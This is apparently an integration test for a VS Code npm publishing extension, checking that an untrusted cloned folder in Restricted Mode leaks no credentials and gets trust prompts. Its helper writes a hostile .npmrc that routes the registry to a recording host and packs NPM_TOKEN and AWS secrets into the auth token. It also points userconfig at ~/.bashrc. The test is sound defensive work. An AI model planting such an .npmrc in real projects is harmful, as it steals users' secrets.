// Issue "untrusted repositories" in the real extension host, opened in VS Code's Restricted Mode:
// a cloned folder whose .npmrc tries to send the user's secrets to a host of its choosing
// (127.0.0.2, a recording host), with no click at all; and the actions asking for trust first.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { PublishAuthStatus } from '../../../src/core/base/model';
import type { PublishAuthApi } from '../../../src/ui/publishAuthExtension';
import type { Prompts } from '../../../src/ui/prompts';
import { defaultScenario, tokenOf } from '../../registry/scenarios';
import { startRegistry, type LocalRegistry } from '../../registry/server';
import { declareNpmjs } from '../registryKinds';
import { startRecordingHost, type RecordingHost } from '../../support/recordingHost';

const EXTENSION_ID = 'npm-publish-auth.npm-publish-auth';
const userNpmrc = path.join(os.homedir(), '.npmrc');
const planted = { NPM_TOKEN: 'planted-env-token-51c0de', AWS_SECRET_ACCESS_KEY: 'planted-aws-secret-a11ce5' };

describe('Restricted Mode: opening an untrusted folder', function () {
  let api: PublishAuthApi;
  let registry: LocalRegistry;
  let attacker: RecordingHost;
  let folder: string;
  const asked: string[] = [];
  let cases = 0;

  before(async () => {
    assert.equal(vscode.workspace.isTrusted, false, 'the runner opens this window in Restricted Mode');
    registry = await startRegistry({ scenario: 'default' });
    await declareNpmjs(registry);
    attacker = await startRecordingHost();
    Object.assign(process.env, planted);
    api = await vscode.extensions.getExtension<PublishAuthApi>(EXTENSION_ID)!.activate();
    folder = vscode.workspace.workspaceFolders![0].uri.fsPath;
    const prompts: Partial<Prompts> = {
      confirm: async (message, _detail, ...buttons) => (asked.push(`confirm: ${message} [${buttons.join(', ')}]`), undefined),
      message: async (severity, text) => (asked.push(`${severity}: ${text}`), undefined),
    };
    api.usePrompts(prompts);
  });

  after(async () => {
    api.usePrompts(undefined);
    for (const name of Object.keys(planted)) delete process.env[name];
    fs.rmSync(userNpmrc, { force: true });
    await Promise.all([registry.close(), attacker.close()]);
  });

  beforeEach(() => {
    registry.reset();
    attacker.requests.length = 0;
    asked.length = 0;
    fs.writeFileSync(userNpmrc, `registry=${registry.url}\n${registry.url.replace(/^http:/, '')}:_authToken=${tokenOf(defaultScenario, 'alice-session')}\n`, { mode: 0o600 });
  });

  /** Writes a hostile package and opens it; resolves with its status (waiting for the exact name@version). */
  async function openHostile(npmrc: string): Promise<PublishAuthStatus> {
    const version = `3.0.${++cases}`;
    const dir = path.join(folder, 'cloned', `case-${cases}`);
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'demo-pkg', version }));
    fs.writeFileSync(path.join(dir, '.npmrc'), npmrc);
    const shown = new Promise<PublishAuthStatus>((resolve) => {
      const sub = api.onDidChangeStatus((s) => {
        if (s?.package.version === version && s.checkedAt !== undefined) {
          sub.dispose();
          resolve(s);
        }
      });
    });
    await vscode.window.showTextDocument(vscode.Uri.file(path.join(dir, 'package.json')));
    return shown;
  }

  const hostile = () => `registry=${attacker.url}\n${attacker.url.replace(/^http:/, '')}:_authToken=\${NPM_TOKEN}.\${AWS_SECRET_ACCESS_KEY}\nuserconfig=~/.bashrc\n`;

  function assertNothingReached(): void {
    const seen = attacker.seen();
    for (const value of [...Object.values(planted), tokenOf(defaultScenario, 'alice-session')]) assert.ok(!seen.includes(value), `${value} reached the repository's host`);
    assert.deepEqual(attacker.requests.filter((r) => r.headers.authorization !== undefined), []);
  }

  it('no authorization and no environment value reach the repository\'s host; label and tooltip say the settings are partly applied', async () => {
    const status = await openHostile(hostile());
    assert.ok(attacker.requests.length > 0, 'the package was looked up on the registry the folder chose');
    assertNothingReached();
    assert.equal(status.verdict.code, 'not-logged-in');
    assert.ok(status.restricted?.ignored.includes('userconfig'));
    const item = api.statusItem;
    assert.match(item.text, /\$\(workspace-untrusted\)/);
    assert.match(item.tooltip ?? '', /Restricted Mode: this folder's npm settings are only partly applied/);
    assert.match(item.tooltip ?? '', /command:npmPublishAuth\.trustWorkspace/);
    assert.match(item.accessibilityLabel ?? '', /Restricted Mode: this folder's npm settings are only partly applied\. Trust the folder/);
    for (const value of Object.values(planted)) assert.ok(!JSON.stringify(item).includes(value));
  });

  it('every action that writes, publishes or runs npm asks for trust first and runs nothing', async () => {
    await openHostile(hostile());
    const before = fs.readFileSync(userNpmrc, 'utf8');
    const bashrc = path.join(os.homedir(), '.bashrc');
    for (const command of ['login', 'logout', 'generateToken', 'setPublishingAccess', 'setUpTrustedPublishing', 'showTrustedPublishing', 'revokeTrustedPublishing', 'publish', 'bumpVersion', 'bumpVersions']) {
      asked.length = 0;
      registry.reset();
      attacker.requests.length = 0;
      await vscode.commands.executeCommand(`npmPublishAuth.${command}`);
      assert.equal(asked.length, 1, `${command}: ${asked.join(' | ')}`);
      assert.match(asked[0], /^confirm: .*disabled in Restricted Mode.* \[Manage Workspace Trust\]$/, command);
      // A background refresh may look the package up there (a GET without a credential); the command itself sends nothing.
      assert.deepEqual(attacker.requests.filter((r) => r.method !== 'GET' || r.headers.authorization), [], `${command} sent nothing to the repository's host`);
      assert.deepEqual(registry.requests.filter((r) => r.method !== 'GET'), [], `${command} changed nothing on the registry`);
    }
    assert.equal(fs.readFileSync(userNpmrc, 'utf8'), before, 'the user npmrc keeps every byte');
    assert.equal(fs.existsSync(bashrc), false, 'nothing was written where the folder pointed userconfig');
  });

  it('a scope mapping to the user\'s own registry still gets a verdict, with the user\'s credential only', async () => {
    const version = `4.0.${++cases}`;
    const dir = path.join(folder, 'cloned', `scoped-${cases}`);
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: '@demo/scoped', version }));
    fs.writeFileSync(path.join(dir, '.npmrc'), `@demo:registry=${registry.url}\n`);
    const shown = new Promise<PublishAuthStatus>((resolve) => {
      const sub = api.onDidChangeStatus((s) => s?.package.version === version && s.checkedAt !== undefined && (sub.dispose(), resolve(s)));
    });
    await vscode.window.showTextDocument(vscode.Uri.file(path.join(dir, 'package.json')));
    const status = await shown;
    assert.equal(status.credential?.kind, 'session');
    assert.ok(registry.requests.some((r) => r.authorization === 'bearer'));
    // Writing this folder's .npmrc may refresh the hostile package still shown; nothing about this one goes there.
    assert.deepEqual(attacker.requests.filter((r) => r.url.includes('scoped')), []);
  });
});
